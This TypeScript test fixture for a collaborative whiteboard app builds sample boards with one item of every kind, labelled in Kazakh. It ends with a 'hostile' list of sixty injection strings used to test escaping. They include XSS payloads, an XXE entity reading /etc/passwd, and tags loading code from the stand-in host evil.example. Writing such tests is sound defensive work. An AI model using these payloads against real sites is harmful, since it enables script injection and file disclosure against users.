import { addThings, openBoard } from '@sheber/document/board'
import { encodeStroke } from '@sheber/document/ink'
import type { NewThing } from '@sheber/document/thing'
import * as Y from 'yjs'
import { halfWide } from '../core/board.fixture.ts'
import { Scene } from '../core/scene.ts'

/** For tests: one of every kind, and a board that holds them. */

const by = 'aigerim'
const at = 1_700_000_000_000

export const handOf = (me = by) => {
  let ids = 0
  return { me, newId: () => `new${++ids}`, now: () => at }
}

const wave = Array.from({ length: 40 }, (_, i) => ({ x: i * 5, y: 30 + 25 * Math.sin(i / 4), pressure: 0.5 }))

/** Drawn by a part that a board fetches for itself. */
export const technical: readonly NewThing[] = [
  {
    kind: 'model',
    id: 'model',
    g: [0, 1400, 320, 292],
    file: 'm0del',
    name: 'қанат.stl',
    bytes: 684,
    extent: [20, 10, 5],
    unit: 'cm',
    triangles: 12,
    view: [90, 10, 2],
    still: 'st1ll',
    text: 'Қанат',
    by,
    at,
  },
  {
    kind: 'dimension',
    id: 'dimension',
    a: null,
    b: { id: 'shape', u: 0, v: 1, port: '' },
    p: [0, 0, 90, 0],
    offset: -40,
    text: '⌀ 12',
    by,
    at,
  },
  { kind: 'symbol', id: 'symbol', g: [0, 0, 80, 40], turn: 90, symbol: 'resistor', value: '220 Ω', text: 'R1', by, at },
  { kind: 'part', id: 'part', g: [0, 0, 400, 300], part: 'uno', text: 'Негізгі', by, at },
  { kind: 'formula', id: 'formula', g: [0, 0, 200, 60], size: 32, text: 'U = I R', by, at },
  { kind: 'code', id: 'code', g: [0, 0, 400, 200], language: 'python', text: 'print("сәлем")', by, at },
  {
    kind: 'table',
    id: 'table',
    g: [0, 0, 200, 80],
    rows: [{ id: 'r1', key: 'a0', size: 40 }],
    columns: [
      { id: 'c1', key: 'a0', size: 80 },
      { id: 'c2', key: 'a1', size: 120 },
    ],
    cells: { 'r1:c1': 'Кернеу', 'r1:c2': '' },
    text: 'Өлшемдер',
    by,
    at,
  },
]

/** Voted upon, and timed: these too. */
export const voted: readonly NewThing[] = [
  {
    kind: 'poll',
    id: 'poll',
    g: [0, 0, 340, 220],
    answers: [
      { id: 'a0.one', words: 'Үш қалақ' },
      { id: 'a1.two', words: 'Бес қалақ' },
    ],
    text: 'Неше қалақ?',
    by,
    at,
  },
  { kind: 'round', id: 'round', g: [0, 300, 340, 120], dots: 2, over: [], text: 'Қай идея?', by, at },
  { kind: 'timer', id: 'timer', g: [400, 0, 240, 150], span: 420, by, at },
]

export const everyKind: readonly NewThing[] = [
  { kind: 'frame', id: 'frame', g: [0, 0, 800, 560], text: 'Жел диірмені: 1-сызба', mm: 4, grid: 5, fill: 'white', by, at },
  { kind: 'note', id: 'note', g: [40, 40, 200, 200], text: 'Қазақ әріптері: ә ғ қ ң ө ұ ү һ і', fill: 'green', by, at },
  { kind: 'text', id: 'text', g: [280, 40, 300, 30], text: 'Ұшақтың қанаты — wing — крыло', size: 22, ink: 'blue', by, at },
  {
    kind: 'shape',
    id: 'shape',
    g: [280, 100, 180, 110],
    text: 'Мотор',
    form: 'rounded',
    fill: 'blue',
    ink: 'blue',
    width: 3,
    turn: 12,
    group: 'pair',
    by,
    at,
  },
  {
    kind: 'shape',
    id: 'tank',
    g: [540, 100, 140, 130],
    text: 'Бак',
    form: 'cylinder',
    fill: '#ffc9c9',
    ink: '#e03131',
    dash: 'dashed',
    group: 'pair',
    by,
    at,
  },
  { kind: 'ink', id: 'ink', g: [40, 290, 195, 60], points: encodeStroke({ w: 195, h: 60, points: wave }), ink: 'red', width: 5, by, at },
  {
    kind: 'ink',
    id: 'marker',
    g: [280, 300, 195, 60],
    points: encodeStroke({ w: 195, h: 60, points: wave }),
    ink: 'yellow',
    width: 24,
    brush: 'highlighter',
    by,
    at,
  },
  {
    kind: 'connector',
    id: 'connector',
    a: { id: 'shape', u: 0.5, v: 0.5, port: '' },
    b: { id: 'tank', u: 0.5, v: 0.5, port: '' },
    p: [460, 155, 540, 165],
    route: 'elbow',
    head: 'triangle',
    tail: 'dot',
    text: '12 В',
    ink: 'violet',
    width: 2,
    dash: 'dotted',
    by,
    at,
  },
  { kind: 'image', id: 'image', g: [40, 400, 160, 120], file: 'f1le', text: 'Мачта', by, at },
  { kind: 'card', id: 'card', g: [230, 400, 200, 90], of: 'task', ref: 't4sk', text: 'Сынақ', by, at },
  { kind: 'link', id: 'link', g: [450, 400, 200, 90], url: 'https://example.org/', about: 'Жел туралы', text: 'example.org', by, at },
  { kind: 'stamp', id: 'stamp', g: [670, 400, 80, 80], stamp: 'star', by, at },
]

export const boardOf = (things: readonly NewThing[]) => {
  const board = openBoard(new Y.Doc())
  addThings(board, things)
  return board
}

export const sceneOf = (things: readonly NewThing[]) => new Scene(boardOf(things), halfWide)

/** Sixty ways to bring a script into a place where words belong. */
export const hostile: readonly string[] = [
  '<script>alert(1)</script>',
  '</text><script>alert(1)</script><text>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '" onload="alert(1)',
  "' onload='alert(1)",
  '"/><script xlink:href="//evil.example/x.js"/>',
  '"><image href=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<foreignObject><iframe src="javascript:alert(1)"/></foreignObject>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<animate onbegin=alert(1) attributeName=x dur=1s>',
  '<set attributeName="href" to="javascript:alert(1)"/>',
  '<use href="data:image/svg+xml,<svg/onload=alert(1)>"/>',
  ']]><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!-- --><script>alert(1)</script>',
  '<?xml-stylesheet href="//evil.example/x.css"?>',
  '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  '&x;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u0000<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</script>',
  '\u0008\u000b\u000c\u001f',
  '\ud800',
  '\udc00<script>',
  '\ufffe\uffff',
  '\u2028\u2029<script>',
  '\u202e<script>alert(1)</script>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'url(javascript:alert(1))',
  'expression(alert(1))',
  '@import url(//evil.example/x.css);',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '`${alert(1)}`',
  '\\"onload=alert(1)//',
  '\\u003cscript\\u003ealert(1)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="//evil.example/x">',
  '<embed src="//evil.example/x">',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<details open ontoggle=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<style>*{background:url(//evil.example)}</style>',
  '<handler type="application/ecmascript">alert(1)</handler>',
  '<listener event="load" handler="#x"/>',
  '<script href="//evil.example/x.js"/>',
  '<svg:script>alert(1)</svg:script>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '--><script>alert(1)</script><!--',
  '(endstream) endobj << /JS (app.alert(1)) /S /JavaScript >>',
]
